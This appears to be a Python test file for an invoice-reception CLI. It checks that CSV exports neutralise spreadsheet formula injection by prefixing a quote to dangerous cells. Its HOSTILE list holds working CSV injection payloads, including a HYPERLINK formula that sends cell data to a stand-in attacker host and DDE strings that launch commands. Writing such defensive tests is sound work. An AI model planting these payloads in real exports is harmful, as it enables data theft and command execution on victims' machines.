"""CSV exports never hand a spreadsheet a formula (OWASP's CSV injection rule).

Hostile supplier names and subjects go in through `importar` and come out through
`documentos --formato csv` and `mensajes --formato csv`, as a technician would export them.
"""

from __future__ import annotations

import csv
import dataclasses
import io
import json
from pathlib import Path

import pytest

from tui_recepcion.cli import main
from tui_recepcion.demo.samples import SUPPLIERS, Attachment, SampleFactory, build_zip
from tui_recepcion.output import Column, csv_safe, render

HOSTILE = (
    '=HYPERLINK("http://atacante.example/?d="&A1;"Ver factura")',
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
DANGEROUS_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")


@pytest.fixture
def db(tmp_path: Path) -> list[str]:
    return ["--base-datos", str(tmp_path / "recepcion.db")]


def run(capsys, *argv: str) -> tuple[int, str]:
    code = main(list(argv))
    return code, capsys.readouterr().out


def csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def assert_no_formula(rows: list[dict[str, str]]) -> None:
    for row in rows:
        for key, cell in row.items():
            assert not cell.startswith(DANGEROUS_STARTS), (key, cell)


@pytest.mark.parametrize("text", HOSTILE)
def test_csv_safe_prefixes_a_quote(text: str) -> None:
    assert csv_safe(text) == "'" + text


@pytest.mark.parametrize("text", ["-1500.00", "-0.50", "-7", "1500.00", "Proveedor =1+1", "", "'=1+1"])
def test_csv_safe_leaves_numbers_and_plain_text(text: str) -> None:
    assert csv_safe(text) == text


@pytest.mark.parametrize("text", ["-1500.00\n=1+1", "-1500.00=1+1", "-1e5", "-1,5", "-١٥", "-.5", "-1.", "- 1"])
def test_only_a_whole_plain_negative_decimal_escapes_the_rule(text: str) -> None:
    assert csv_safe(text) == "'" + text


def test_render_csv_quotes_every_text_cell_but_keeps_amounts() -> None:
    out = io.StringIO()
    records = [{"nombre": "=1+1", "total": "-1500.00", "lista": ["@a", "b"], "detalle": [{"n": "=x"}],
                "nada": None, "ok": True}]
    render(records, "csv", (), out)
    (row,) = csv_rows(out.getvalue())
    assert row == {"nombre": "'=1+1", "total": "-1500.00", "lista": "'@a b", "detalle": '[{"n": "=x"}]',
                   "nada": "", "ok": "si"}


def test_json_and_table_are_unchanged() -> None:
    records = [{"nombre": "=1+1", "total": "-1500.00"}]
    out = io.StringIO()
    render(records, "json", (), out)
    assert json.loads(out.getvalue()) == records
    out = io.StringIO()
    render(records, "tabla", (Column("nombre", "Nombre", 10), Column("total", "Total", 10)), out)
    assert out.getvalue().splitlines()[2].split() == ["=1+1", "-1500.00"]


def test_documents_csv_neutralises_hostile_supplier_names(capsys, db, factory: SampleFactory,
                                                          tmp_path: Path) -> None:
    folder = tmp_path / "entrada"
    folder.mkdir()
    for index, name in enumerate(HOSTILE):
        supplier = dataclasses.replace(SUPPLIERS[index % len(SUPPLIERS)], name=name)
        document = factory.document(supplier=supplier)
        (folder / f"f{index}.zip").write_bytes(build_zip([("ad.xml", factory.container(document))]))
    code, _ = run(capsys, "importar", str(folder), "--nit-receptor", factory.receiver.nit, *db)
    assert code == 0

    _, out = run(capsys, "documentos", "--formato", "json", *db)
    stored = {record["cufe"]: record["nombre_emisor"] for record in json.loads(out)}
    assert len(stored) == len(HOSTILE)
    assert any(name.startswith("=") for name in stored.values())  # JSON keeps the names as they are

    _, out = run(capsys, "documentos", "--formato", "csv", *db)
    rows = csv_rows(out)
    assert_no_formula(rows)
    assert {row["cufe"]: row["nombre_emisor"] for row in rows} == {
        cufe: csv_safe(name) for cufe, name in stored.items()
    }
    assert "'=cmd|' /C calc'!A0" in {row["nombre_emisor"] for row in rows}


def test_messages_csv_neutralises_hostile_subjects(capsys, db, factory: SampleFactory, tmp_path: Path) -> None:
    folder = tmp_path / "entrada"
    folder.mkdir()
    for index, subject in enumerate(HOSTILE[:6]):
        document = factory.document()
        zipped = build_zip([("ad.xml", factory.container(document))])
        raw = factory.email(subject, [Attachment("f.zip", zipped, "application/zip")])
        (folder / f"m{index}.eml").write_bytes(raw)
    code, _ = run(capsys, "importar", str(folder), "--nit-receptor", factory.receiver.nit, *db)
    assert code == 0

    _, out = run(capsys, "mensajes", "--formato", "json", *db)
    subjects = {record["asunto"] for record in json.loads(out)}
    assert subjects == set(HOSTILE[:6])

    _, out = run(capsys, "mensajes", "--formato", "csv", *db)
    rows = csv_rows(out)
    assert len(rows) == 6
    assert_no_formula(rows)
    assert {row["asunto"] for row in rows} == {"'" + subject for subject in HOSTILE[:6]}
